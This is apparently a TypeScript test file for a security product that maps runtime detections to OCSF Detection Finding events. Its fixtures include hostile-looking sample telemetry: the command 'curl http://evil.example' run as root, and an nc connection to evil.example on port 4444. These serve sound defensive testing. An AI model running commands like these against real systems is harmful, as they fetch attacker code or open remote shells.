// Detections as OCSF Detection Findings: held against the released schema, whatever a detection holds.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { hitKinds } from "./hit.ts";
import { detectionStates, evidenceStates, verdicts } from "./detection.ts";
import { sampleDetection, sampleOfFields } from "./detection.sample.ts";
import { levels } from "./event.ts";
import type { Fields } from "./event.ts";
import { ocsfProblems } from "./ocsf-schema.sample.ts";
import { toDetectionFinding } from "./ocsf.ts";

const about = { activity: 1, at: Date.UTC(2026, 10, 22, 18), version: "1.2.3", publicUrl: "https://watch.example" } as const;
const curl: Fields = { Image: "/usr/bin/curl", CommandLine: "curl http://evil.example", ProcessId: "712", ParentImage: "/bin/sh", User: "root" };

describe("src/runtime/ocsf.ts", () => {
  it("says who, where, what and how sure, by the schema's names", () => {
    const finding = toDetectionFinding(sampleDetection(), [sampleOfFields(curl)], about);
    expect(ocsfProblems(finding)).toEqual([]);
    expect(finding).toMatchObject({
      class_uid: 2004, type_uid: 200_401, activity_id: 1, category_uid: 2, severity_id: 4, status_id: 1, is_alert: true, confidence_id: 3, time: about.at, count: 3, metadata: { version: "1.5.0", product: { name: "Aftwatch", vendor_name: "Aftwatch", version: "1.2.3" }, correlation_uid: "det_1" },
      finding_info: {
        uid: "det_1", title: "Curl to somewhere", types: ["rule"], analytic: { type_id: 1, uid: "0c2f8a54-6d4e-4a07-9a51-7b1f6c3d0e01" }, src_url: "https://watch.example/runtime/detections/det_1",
        attacks: [{ technique: { uid: "T1105" } }, { tactic: { uid: "TA0011", name: "Command and Control" } }, { technique: { uid: "T1059" }, sub_technique: { uid: "T1059.004" } }],
      },
      evidences: [{ process: { pid: 712, name: "curl", cmd_line: "curl http://evil.example", file: { name: "curl", path: "/usr/bin/curl", type_id: 0 }, parent_process: { name: "sh" } }, user: { name: "root" }, device: { hostname: "node-1" } }],
      resources: [{ type: "workload", name: "prod/shop", labels: ["environment=production", "exposure=internet"] }, { type: "service", uid: "svc_1", version: "2.4.1", owner: { name: "payments" } }, { type: "endpoint", uid: "end_1" }],
      vulnerabilities: [{ cve: { uid: "CVE-2021-44228" }, affected_packages: [{ name: "org.apache.logging.log4j/log4j-core", version: "2.14.1" }] }],
    });
    expect(finding["observables"]).toEqual(expect.arrayContaining([{ name: "evidences.process.name", type_id: 9, type: "Process Name", value: "curl" }, { name: "vulnerabilities.cve.uid", type_id: 18, type: "CVE Object: uid", value: "CVE-2021-44228" }]));
  });

  it.each([
    ["a request", { "c-ip": "192.0.2.7", "cs-method": "get", "cs-uri-stem": "/search", "cs-uri-query": "q=1", "cs-host": "shop.example", "cs-user-agent": "sqlmap", "sc-status": "200" }, { src_endpoint: { ip: "192.0.2.7" }, url: { path: "/search", query_string: "q=1", url_string: "/search?q=1", hostname: "shop.example" }, http_request: { http_method: "GET", user_agent: "sqlmap" }, http_response: { code: 200 } }],
    ["a connection", { Image: "/bin/nc", DestinationHostname: "evil.example", DestinationPort: 4444 }, { dst_endpoint: { hostname: "evil.example", port: 4444 }, process: { uid: expect.stringMatching(/^prc_/) } }],
    ["a file", { TargetFilename: "C:\\Windows\\x.exe" }, { file: { name: "x.exe", path: "C:\\Windows\\x.exe", type_id: 0 } }],
    ["a call of a cloud", { eventName: "CreateUser", eventSource: "iam.amazonaws.com", userIdentity: { arn: "arn:aws:iam::1:user/a" }, sourceIPAddress: "cloudformation.amazonaws.com" }, { api: { operation: "CreateUser", service: { name: "iam.amazonaws.com" } }, user: { name: "arn:aws:iam::1:user/a" }, src_endpoint: { hostname: "cloudformation.amazonaws.com" } }],
    ["a request to the API server", { verb: "create", objectRef: { resource: "pods" }, user: { username: "eve" }, sourceIPs: ["10.0.0.1", "2001:db8::1"] }, { api: { operation: "create pods" }, user: { name: "eve" }, src_endpoint: { ip: "2001:db8::1" } }],
    ["nothing known", { a: { b: [1, null] } }, { data: { at: expect.any(Number) } }],
  ] as const)("%s", (_, fields, evidence) => {
    const finding = toDetectionFinding(sampleDetection(), [sampleOfFields(fields as Fields)], about);
    expect([ocsfProblems(finding), (finding["evidences"] as unknown[])[0]]).toEqual([[], expect.objectContaining(Object.fromEntries(Object.entries(evidence).map(([name, value]) => [name, expect.objectContaining(value)])))]);
  });

  it.each([
    [{ state: "open" }, 1, 1, true], [{ state: "open", verdict: "true-positive" }, 2, 2, false], [{ state: "dismissed", verdict: "false-positive" }, 3, 3, false], [{ state: "dismissed", verdict: "benign" }, 3, 3, false], [{ state: "excepted" }, 1, 3, false], [{ state: "open", verdict: "true-positive" }, 3, 4, false],
  ] as const)("%j as activity %i has status %i", (more, activity, status, alert) => {
    const finding = toDetectionFinding(sampleDetection(more), [], { ...about, activity });
    expect([finding["status_id"], finding["is_alert"], finding["type_uid"], ocsfProblems(finding)]).toEqual([status, alert, 200_400 + activity, []]);
  });

  it.each([["baseline", 2], ["rate", 3], ["correlation", 1], ["sensor", 1]] as const)("%s is analytic type %i", (kind, type) => expect(toDetectionFinding(sampleDetection({ kind }), [], about)["finding_info"]).toMatchObject({ analytic: { type_id: type } }));

  it("lowered evidence names no vulnerability, an advisory is no CVE, and a component without a version is none", () => {
    const { evidence } = sampleDetection();
    expect(toDetectionFinding(sampleDetection({ evidence: { ...evidence, state: "lowered" } }), [], about)).not.toHaveProperty("vulnerabilities");
    expect(toDetectionFinding(sampleDetection({ evidence: { ...evidence, vulnerability: "GHSA-abcd-1234-wxyz", component: "pkg:npm/x" } }), [], about)["vulnerabilities"]).toEqual([{ advisory: { uid: "GHSA-abcd-1234-wxyz" }, desc: evidence.because }]);
  });

  const anyText = fc.oneof(fc.string({ unit: "binary", maxLength: 60 }), fc.constantFrom("", " ", "\u0000", "\ud800", "/", "a".repeat(9000), "\u202e", "1e99", "-1", "99999999999"));
  const anyValue = fc.oneof(anyText, fc.nat(), fc.double(), fc.boolean(), fc.constant(null), fc.array(anyText, { maxLength: 3 }), fc.record({ uid: anyText }));
  const names = ["Image", "CommandLine", "ParentImage", "ParentCommandLine", "ProcessId", "ParentProcessId", "ProcessGuid", "User", "TargetFilename", "DestinationIp", "DestinationPort", "DestinationHostname", "SourceIp", "SourcePort", "c-ip", "cs-method", "cs-uri", "cs-uri-stem", "cs-uri-query", "cs-host", "cs-user-agent", "cs-referer", "sc-status", "eventName", "eventSource", "verb", "objectRef", "user", "userIdentity", "sourceIPs", "sourceIPAddress"];
  const anyFields = fc.dictionary(fc.constantFrom(...names), anyValue, { maxKeys: 12 }) as fc.Arbitrary<Fields>;
  it("any detection with any events is an event of the schema, of at most 250 kB", () => {
    const anyDetection = fc.record({
      kind: fc.constantFrom(...hitKinds), level: fc.constantFrom(...levels), state: fc.constantFrom(...detectionStates), verdict: fc.option(fc.constantFrom(...verdicts), { nil: undefined }), title: anyText, subject: anyText, note: fc.option(anyText, { nil: undefined }), tags: fc.array(fc.oneof(anyText, fc.constantFrom("attack.__proto__", "attack.constructor", "attack.T1059", "attack.credential_access")), { maxLength: 8 }),
      evidence: fc.record({ state: fc.constantFrom(...evidenceStates), vulnerability: fc.option(fc.oneof(anyText, fc.constant("cve-2021-44228")), { nil: undefined }), component: fc.option(fc.oneof(anyText, fc.constant("pkg:npm/%E0%A4%A@1")), { nil: undefined }), because: anyText }),
      placement: fc.record(Object.fromEntries(["workload", "service", "serviceId", "owner", "version", "environment", "endpoint", "exposure"].map((name) => [name, anyText]))),
    });
    fc.assert(fc.property(anyDetection, fc.array(anyFields, { maxLength: 7 }), fc.constantFrom(1, 2, 3), (more, events, activity) => {
      const whole = sampleDetection();
      const finding = toDetectionFinding({ ...whole, ...more, placement: { ...whole.placement, ...more.placement } } as typeof whole, events.map((fields, slot) => sampleOfFields(fields, slot)), { activity: activity as 1 });
      const text = JSON.stringify(finding);
      expect(ocsfProblems(JSON.parse(text))).toEqual([]);
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(250_000);
    }), { numRuns: 300 });
  });
});
